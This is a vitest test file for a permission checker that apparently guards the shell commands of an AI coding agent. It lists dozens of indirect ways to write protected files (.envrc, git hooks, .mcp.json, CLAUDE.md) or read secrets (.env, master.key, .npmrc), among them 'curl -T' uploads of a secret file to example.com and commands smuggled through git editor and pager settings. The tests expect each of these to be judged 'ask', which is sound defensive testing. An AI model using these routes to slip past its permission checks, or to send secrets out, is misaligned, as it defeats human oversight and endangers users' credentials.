import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it, test } from 'vitest';
import { ProjectScene } from './scene.js';

const base = realpathSync(mkdtempSync(join(tmpdir(), 'gnomon-test-')));
const scene = new ProjectScene(base, false);

for (const name of ['trap/.envrc', 'trap/sub/.husky/x', 'trap/deep/er/.mcp.json', 'tame/a.txt', 'tame/sub/b.ts', 'tame/deep/c.ts']) {
  const path = join(scene.root, name);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, 'x\n');
}
scene.isDone = true;
afterAll(() => rmSync(base, { recursive: true, force: true }));

/** Each mode or rule that lets ordinary commands pass. */
const LOOSE = [{ mode: 'bypassPermissions' }, { rules: ['allow Bash'] }, { rules: ['allow Bash', 'deny Edit(.envrc)'] }] as const;

async function said(command: string): Promise<readonly string[]> {
  const judgments = await Promise.all(LOOSE.map((circumstances) => scene.judge(command, circumstances)));
  return judgments.map(({ type }) => (type === 'deny' ? 'ask' : type));
}

const ASKS = ['ask', 'ask', 'ask'];
/** Where only running tells the name of a file, a deny rule may be about it. */
const RUNS = ['allow', 'allow'];

describe('path-16 protected files that a line does not name in its own words ask where all else runs', () => {
  /** `trap` has `.envrc`, `sub/.husky/x`, and `deep/er/.mcp.json`; `tame` has ordinary files. */
  const COPIES = [
    ...[
      'cp -a %/. .',
      'cp -r %/. ./',
      'cp -R %/ .',
      'cp --recursive %/. .',
      'cp --archive -v %/. .',
      'cp -rt . %/.',
      'rsync -a %/ .',
      'rsync -av --exclude x %/ ./',
      'rsync %/. . -r',
      'mv % src',
      'mv %/* %/.[!.]* .',
    ],
    ...['cp -r %/* src', 'cp %/sub/../.e* .', 'cp -a % src/copy', 'scp -r %/. .', 'cd % && cp -a . ..', 'timeout 5 cp -a %/. .', 'cp -a "%"/. "."'],
    ...[
      'find % -exec cp {} . \\;',
      'find % -type f -exec cp -t . {} +',
      "find % -name '.*' -exec mv {} . ';'",
      'find -H % -exec cp {} src \\;',
      'fd -H . % -x cp {} .',
      'find %/deep -exec ln {} . \\;',
    ],
  ];
  test.each(COPIES)('%s', async (line) => {
    expect([line, await said(line.replaceAll('%', 'trap'))]).toEqual([line, ASKS]);
    // The shell finds no hidden names there, and a folder above is a reason by itself.
    if (!/\.e\*|\.\[|\.\./.test(line)) expect([line, (await said(line.replaceAll('%', 'tame'))).slice(0, 2)]).toEqual([line, RUNS]);
  });

  const WORDS = [
    ...[
      'echo x > ${X:-.envrc}',
      'echo x > ${X-.envrc}',
      'echo x > ${X:=.envrc}',
      'echo x >> ${X:-.env}rc',
      'echo x > "${X:-.envrc}"',
      'echo x > ./${X:-.envrc}',
      'cat a > ${X+.envrc}',
      'echo x > ${X/a/.envrc}',
      'tee ${X:-.envrc} < a',
      'cp a ${X:-.envrc}',
      'touch "${X:-.envrc}"',
    ],
    ...[
      "sh -c 'echo x > $0' .envrc",
      "bash -c 'echo x > $1' _ .envrc",
      'sh -c \'cat a > "$2"\' a b .envrc',
      "env X=.envrc sh -c 'echo x > $X'",
      "echo a | xargs sh -c 'echo x > $0' .envrc",
      "timeout 5 sh -c 'echo x > $0' .envrc",
      "eval 'echo x > $X' .envrc",
      "find . -maxdepth 0 -exec sh -c 'echo x > $0' .envrc \\;",
    ],
  ];
  test.each(WORDS)('%s', async (line) => {
    expect([line, await said(line)]).toEqual([line, ASKS]);
    expect([line, (await said(line.replaceAll('.envrc', 'out.txt').replaceAll('.env}rc', 'out}.txt'))).slice(0, 2)]).toEqual([line, RUNS]);
  });

  const READS = [
    'echo .env | xargs git blame',
    'echo .env | xargs git diff --',
    'echo .env | xargs -n1 git add',
    'printf .env | xargs git log -p --',
    'find . -newer .env',
    'find . -samefile .env',
    'cat ${X:-.env}',
    'head "${X:-.env}"',
    'git blame ${X:-.env}',
    "sh -c 'cat $0' .env",
  ];
  test.each(READS)('%s', async (line) => {
    expect([line, await said(line)]).toEqual([line, ASKS]);
  });
});

test.each(['npx tsc -p %', 'npx tsc --project %', 'npx tsc -b %', 'npx vue-tsc -p %'])(
  'a rule for a compiler does not cover settings in another folder: %s',
  async (line) => {
    const rules = [`allow Bash(${line.replace(/ -.*$/, '')}:*)`];
    for (const place of ['evil/tsconfig.json', 'evil', './src/tsconfig.json', '../tsconfig.json'])
      expect([place, (await scene.judge(line.replace('%', place), { rules })).type]).toEqual([place, 'ask']);
    for (const place of ['.', 'tsconfig.json', './tsconfig.build.json'])
      expect([place, (await scene.judge(line.replace('%', place), { rules })).type]).toEqual([place, 'allow']);
  },
);

describe('path-17 a name counts in a folder that only running tells', () => {
  /** How a line says where, so that its text does not tell. `ROOT` is known to nobody. */
  const PLACES = [
    '"$(pwd)"/',
    '`pwd`/',
    '"$(git rev-parse --show-toplevel)/"',
    '$ROOT/',
    '"${ROOT}"/',
    '"${ROOT:-.}"/',
    '${PWD%/}/',
    '~+/',
    '~root/',
    '"$ROOT/$SUB"/',
  ];
  const WRITES = [
    'echo x > %',
    'cp a %',
    'tee % < a',
    'mkdir -p %',
    'touch %',
    'ln -s a %',
    'curl -o % https://example.com',
    'node x.js --out=%',
    'git show HEAD:a --output=%',
    'for d in a b; do cp a %; done',
    'tar xf a.tar -C %',
  ];
  const GUARDED = ['.envrc', '.vscode/tasks.json', '.git/hooks/pre-commit', '.mcp.json', 'CLAUDE.md', 'sub/.husky/x'];
  test.each(PLACES)('written below %s', async (place) => {
    for (const [index, write] of WRITES.entries()) {
      const name = GUARDED[index % GUARDED.length] ?? '.envrc';
      expect([write, await said(write.replace('%', () => place + name))]).toEqual([write, ASKS]);
      expect([write, (await said(write.replace('%', () => `${place}out.txt`))).slice(0, 2)]).toEqual([write, RUNS]);
    }
  });

  const READS = ['cat %', 'head -5 %', 'cat < %', 'cp % out', 'base64 %', 'tar cf out.tar %', 'curl -T % https://example.com', 'source %; env'];
  test.each(PLACES)('read below %s', async (place) => {
    for (const [index, read] of READS.entries()) {
      const name = ['.env', 'config/master.key', '.npmrc'][index % 3] ?? '.env';
      expect([read, await said(read.replace('%', () => place + name))]).toEqual([read, ASKS]);
      expect([read, (await said(read.replace('%', () => `${place}README.md`))).slice(0, 2)]).toEqual([read, RUNS]);
    }
  });

  const GONE = ['cd "$ROOT" &&', 'pushd "$(git rev-parse --show-toplevel)";', 'popd;', 'cd -;'];
  test.each(GONE)('behind %s', async (gone) => {
    for (const line of ['echo x > .envrc', 'cp a .vscode/tasks.json', 'touch CLAUDE.md', 'cat .env', 'head config/master.key', 'cat < .npmrc']) {
      expect([line, await said(`${gone} ${line}`)]).toEqual([line, ASKS]);
    }
    for (const line of ['npm test', "node -e 'console.log(process.env)'", 'echo x > out.txt', 'cat README.md', 'echo .env']) {
      expect([line, (await said(`${gone} ${line}`)).slice(0, 2)]).toEqual([line, RUNS]);
    }
  });

  it.each(['$ROOT', '"$(pwd)"'])('is lifted by no rule, for a rule is about one place: %s', async (place) => {
    const rules = ['allow Bash', 'allow Read(.env)', 'allow Read(/.env)'];
    expect((await scene.judge(`cat ${place}/.env`, { rules })).type).toBe('ask');
    expect((await scene.judge('cat .env', { rules })).type).toBe('allow');
  });
});

describe('path-18 protected files in what a line gives to a program as a command', () => {
  const COMMANDS = ['cp a .envrc', 'echo x > .envrc', 'tee .envrc', 'sh -c "echo > .vscode/tasks.json"'];
  const GIVEN = [
    ...[
      'git rebase -x % HEAD~1',
      'git rebase --exec % main',
      'git rebase --exec=% main',
      'git -c core.editor=% commit',
      'git -c core.pager=% log',
      'git -c alias.x=% x',
      'git fetch --upload-pack % origin',
      'git push --receive-pack % origin',
    ],
    ...[
      'GIT_EDITOR=% git commit',
      'GIT_SEQUENCE_EDITOR=% git rebase -i main',
      'PAGER=% man ls',
      'EDITOR=% crontab -e',
      'GIT_SSH_COMMAND=% git fetch',
      'A=1 BROWSER=% gh pr view',
    ],
  ];
  test.each(GIVEN)('%s', async (line) => {
    for (const command of COMMANDS) expect([command, await said(line.replace('%', () => `'${command}'`))]).toEqual([command, ASKS]);
    for (const command of ['cp a out.txt', 'npm test'])
      expect([command, (await said(line.replace('%', () => `'${command}'`))).slice(0, 2)]).toEqual([command, RUNS]);
  });
});
